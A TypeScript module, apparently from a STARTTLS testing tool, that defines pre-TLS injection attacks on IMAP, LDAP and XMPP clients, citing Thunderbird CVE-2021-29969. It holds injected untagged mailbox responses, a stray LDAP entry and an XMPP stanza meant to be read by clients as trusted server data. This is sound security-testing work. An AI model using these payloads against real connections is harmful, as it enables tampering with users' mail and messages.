/** Data in clear that nobody asked for, shown or acted on as if it were the server's (Thunderbird CVE-2021-29969). */
import type { Attack } from '../cell.ts';
import { EVIL } from '../dialect.ts';
import { strayEntry } from '../dialects/ldap.ts';
import { ambushes, lastInClear, onOffers, onUpgrade, wordsOnly } from '../victim.ts';

const UNTAGGED = [
  `* LIST () "/" ${EVIL}`,
  '* 23 EXISTS',
  `* 1 FETCH (FLAGS (\\Deleted) ENVELOPE ("${EVIL}"))`,
  '* 1 EXPUNGE',
  `* STATUS ${EVIL} (MESSAGES 1)`,
  '',
].join('\r\n');

export const tampering: Attack = {
  name: 'tampering',
  cells: ambushes([
    {
      how: 'untagged data of mailboxes before STARTTLS',
      lies: (dialect) => onOffers(dialect, { say: UNTAGGED + lastInClear(dialect) }),
      weak: ['showsClearWords'],
      judge: wordsOnly,
      only: ['imap'],
    },
    {
      how: 'untagged data of mailboxes before the go-ahead',
      lies: (dialect) => onUpgrade(dialect, { say: UNTAGGED + dialect.goAhead, next: 'handshake' }),
      weak: ['showsClearWords'],
      judge: wordsOnly,
      only: ['imap'],
    },
    {
      how: 'an entry of a search that nobody began, before the go-ahead',
      lies: (dialect) => onUpgrade(dialect, { say: strayEntry + dialect.goAhead, next: 'handshake' }),
      weak: ['takesAnyPositive', 'showsClearWords'],
      only: ['ldap'],
    },
    {
      how: 'a stanza before the go-ahead',
      lies: (dialect) =>
        onUpgrade(dialect, { say: `<message id='${EVIL}'/>${dialect.goAhead}`, next: 'handshake' }),
      weak: ['takesAnyPositive', 'showsClearWords'],
      only: ['xmpp', 'xmpp-server'],
    },
  ]),
  without: (role, protocol) => {
    if (role === 'server' || role === 'front') return 'a matter of clients';
    return ['imap', 'ldap', 'xmpp', 'xmpp-server'].includes(protocol)
      ? 'no such engine'
      : 'data comes in answers only: response-injection';
  },
};
